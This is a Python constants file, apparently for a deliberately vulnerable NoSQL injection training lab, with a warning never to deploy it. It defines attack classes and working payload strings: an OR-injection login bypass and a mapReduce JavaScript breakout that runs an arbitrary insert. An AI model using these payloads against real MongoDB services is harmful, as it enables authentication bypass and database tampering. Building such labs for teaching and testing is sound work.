from enum import Enum

# Limits
MAX_BODY_BYTES = 1024 * 1024
REQUEST_TIMEOUT = 5
STEP_BUDGET = 100_000
MAX_DOC_DEPTH = 100
MAX_PARSE_DEPTH = 200
MAX_INPUT_NESTING = 64
MAX_INPUT_VARS = 1000
INT64_MIN = -2 ** 63
INT64_MAX = 2 ** 63 - 1


class RestMode(Enum):
    OPEN = 'open'
    JSON_ONLY = 'json-only'


class Role(Enum):
    USER = 'user'
    ADMIN = 'admin'


class AttackClass(Enum):
    ARRAY_INJECTION = 'ArrayInjection'
    OR_INJECTION = 'OrInjection'
    JS_INJECTION = 'JsInjection'
    CSRF_PROBE = 'CsrfProbe'


ATTACK_DESCRIPTIONS = {
    AttackClass.ARRAY_INJECTION: 'PHP-style array injection: bracketed form keys turned the credentials '
                                 'into $ne/$gt operator objects and the login query matched every user.',
    AttackClass.OR_INJECTION: 'OR injection: the string-concatenated login query was broken out of its '
                              'quotes and an always-true $or branch made the password redundant.',
    AttackClass.JS_INJECTION: 'Script injection: the mapReduce field parameter closed the map function '
                              'and ran an arbitrary db.<collection>.insert on the server.',
    AttackClass.CSRF_PROBE: 'REST exposure: an HTML-form style urlencoded POST inserted a document, '
                            'so any page a user visits can write to the database.',
}

# Collections
LOGINS = 'logins'
STORES = 'stores'
DATA = 'data'
INJECTION = 'injection'
TOTALS = 'totals'

# mapReduce templates; $param is where the user-chosen field name lands
MAP_TEMPLATE = '''function() {
  for (var i = 0; i < this.items.length; i++) {
    emit(this.name, this.items[i].$param); } }'''
REDUCE_TEMPLATE = 'function(name, sum) { return Array.sum(sum); }'
OPT_TEMPLATE = "{ out: 'totals' }"
EXECUTE_TEMPLATE = 'db.stores.mapReduce($map, $reduce, $opt);'
ALLOWED_FIELDS = frozenset({'amount', 'price'})

# Payload texts
OR_USERNAME_SUFFIX = "', $or: [ {}, { 'a': 'a"
OR_PASSWORD = "' } ], $comment: 'successful MongoDB injection'"
# Printed form of the script breakout. It does not balance against MAP_TEMPLATE.
JS_PAYLOAD_AS_PRINTED = '''a);});function(kv) { return 1; }, { out: 'x'
});db.$marker.insert({success:1});return
1;db.stores.mapReduce(function() { { emit(1,1'''
JS_PAYLOAD_BALANCED = '''a);}},function(kv) { return 1; }, { out: 'x'
});db.$marker.insert({success:1});return
1;db.stores.mapReduce(function() { { emit(1,1'''
MALFORMED_VALUE = '"}{)(;\''
CSRF_FIELD = 'nosqli_marker'

FORM_CONTENT_TYPE = 'application/x-www-form-urlencoded'
JSON_CONTENT_TYPE = 'application/json'

MITIGATIONS = frozenset({'cast', 'escape', 'allowlist', 'content_type', 'rbac', 'operator_keys'})

LAB_WARNING = '''
 *** DELIBERATELY VULNERABLE LAB ***
 This service reproduces NoSQL injection flaws on purpose.
 Bind it to localhost or an isolated network only. Never deploy it.
'''
